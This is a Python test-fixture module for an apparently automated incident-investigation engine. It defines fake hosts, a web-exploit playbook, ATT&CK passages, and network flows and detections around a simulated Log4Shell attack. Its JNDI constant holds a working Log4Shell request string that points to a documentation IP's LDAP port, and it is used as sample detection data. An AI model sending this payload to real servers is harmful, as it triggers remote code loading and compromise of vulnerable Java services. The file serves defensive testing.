"""A case to investigate, with its host, playbook and knowledge base."""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Any

from engine.agent.case import Case, PlaybookView
from engine.types import (
    AddressFacts,
    Alert,
    Detection,
    Direction,
    Disposition,
    FileFacts,
    Finding,
    FiveTuple,
    Flow,
    FlowState,
    Incident,
    Login,
    Logins,
    Party,
    Passage,
    PastIncident,
    PastIncidents,
    Persistence,
    PersistencePoint,
    ProcessFacts,
    Service,
    Services,
    Severity,
    SocketOwner,
    Span,
)

TARGET = "203.0.113.7"
LOCAL = "192.0.2.10"
JNDI = b"GET /?q=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1\r\nHost: shop.example\r\nCookie: sid=topsecretsid\r\n\r\n"


@dataclass(frozen=True)
class BookFake:
    id: str = "web_exploit"
    name: str = "Exploit of a web application"
    attack_ids: tuple[str, ...] = ("T1190",)
    severity: Severity = Severity.HIGH
    block: bool = True
    steps: tuple[tuple[str, str], ...] = (
        ("flow_payload", "Read the request."),
        ("get_pid_by_connection", "Find the process that served it."),
        ("analyze_process_behavior", "Look for a shell below it."),
        ("related_flows", "Look for a fetch of the payload."),
        ("", "Ask the owner of the application for its version."),
    )
    criteria: tuple[str, ...] = ("Malicious where a rule of high severity hit.",)
    actions: tuple[str, ...] = ("Block the source.", "Update the library.")


class KnowledgeFake:
    """Two techniques and one playbook."""

    passages = {  # noqa: RUF012 - never changed
        "T1190": Passage("T1190", "Exploit Public-Facing Application", "Adversaries may exploit.", "ATT&CK", 0.9),
        "T1105": Passage("T1105", "Ingress Tool Transfer", "Adversaries may transfer tools.", "ATT&CK", 0.5),
    }

    def search(self, query: str, k: int = 5, base: str = "") -> list[Passage]:
        return list(self.passages.values())[:k]

    def get(self, passage_id: str, /) -> Passage | None:
        return self.passages.get(passage_id)

    def playbook(self, event_class: str, /) -> PlaybookView | None:
        return BookFake() if event_class == "web_exploit" else None


class HostFake:
    """A host where java serves the connection; what it says can be changed."""

    def __init__(self, finding: Finding = Finding.FOUND, **facts: Any) -> None:
        self._finding = finding
        self._facts = facts
        self.asked: list[Any] = []

    def socket_owner(self, five_tuple: FiveTuple) -> SocketOwner:
        self.asked.append(five_tuple)
        if self._finding is not Finding.FOUND:
            return SocketOwner(self._finding)
        return SocketOwner(Finding.FOUND, 4242, 1_000.5, "java")

    def process(self, pid: int, start_time: float) -> ProcessFacts:
        self.asked.append((pid, start_time))
        facts = ProcessFacts(
            Finding.FOUND, pid, 1, start_time, 1000, "app", "java", "/usr/bin/java", parents=("1 systemd",)
        )
        return replace(facts, **self._facts)

    def services(self) -> Services:
        self.asked.append("services")
        return Services(self._finding, (Service("tcp", "0.0.0.0", 8080, 4242, "java"),))

    def logins(self, ip: str) -> Logins:
        self.asked.append(("logins", ip))
        return Logins(self._finding, (Login("root", ip, False, "password", 3, 90.0, 99.0),))

    def program_file(self, pid: int, start_time: float) -> FileFacts:
        self.asked.append(("program_file", pid, start_time))
        return FileFacts(self._finding, pid, "/usr/bin/java", "root", "0755")

    def persistence(self) -> Persistence:
        self.asked.append("persistence")
        return Persistence(self._finding, (PersistencePoint("cron", "/etc/cron.d/x", 100.0, "root", "* * * * * x"),))

    def address(self, ip: str) -> AddressFacts:
        self.asked.append(("address", ip))
        return AddressFacts(self._finding, ip, "documentation", names=("evil.example",))

    def past_incidents(self, ip: str) -> PastIncidents:
        self.asked.append(("past_incidents", ip))
        past = PastIncident("INC-00000001", 10.0, "Scan", Severity.LOW, Disposition.UNDETERMINED)
        return PastIncidents(self._finding, (past,))


def flow(payload: bytes = JNDI, *, flow_id: str = "1:flowone=", handshake: bool = True, **changes: Any) -> Flow:
    made = Flow(
        id=flow_id,
        five_tuple=FiveTuple(TARGET, 40000, LOCAL, 8080, "tcp"),
        iface="eth0",
        first_seen=100.0,
        last_seen=101.0,
        packets=(5, 4),
        bytes=(900, 500),
        payload_bytes=(len(payload), 10),
        head=(payload, b"HTTP/1.1 200 OK\r\n\r\n"),
        state=FlowState.ESTABLISHED,
        handshake=handshake,
        app="http",
        name="shop.example",
    )
    return replace(made, **changes)


def detection(**changes: Any) -> Detection:
    made = Detection(
        flow_id="1:flowone=",
        at=100.5,
        detector="rules",
        version="1",
        label="log4shell.jndi",
        score=1.0,
        severity=Severity.CRITICAL,
        reason="A JNDI lookup in a request.",
        attacker=Party.INITIATOR,
        attack_ids=("T1190",),
        event_class="web_exploit",
        spans=(Span(Direction.TO_SERVER, 8, 30),),
        excerpt=JNDI[:60],
    )
    return replace(made, **changes)


def case(payload: bytes = JNDI, *, handshake: bool = True, playbook: Any = BookFake(), **changes: Any) -> Case:
    found = detection(excerpt=payload[:256], **changes)
    carrier = flow(payload, handshake=handshake)
    alert = Alert("A-0123456789", TARGET, LOCAL, 100.5, 101.0, 2, found, carrier, "INC-01234567")
    incident = Incident(
        "INC-01234567", TARGET, 100.5, 101.0, found.severity, "Log4Shell", (alert.id,), found.attack_ids, handshake
    )
    other = flow(b"", flow_id="1:flowtwo=", five_tuple=FiveTuple(LOCAL, 50000, TARGET, 1389, "tcp"), packets=(1, 0))
    return Case(incident, (alert,), (carrier, replace(other, handshake=False)), playbook, 102.0, replay=True)
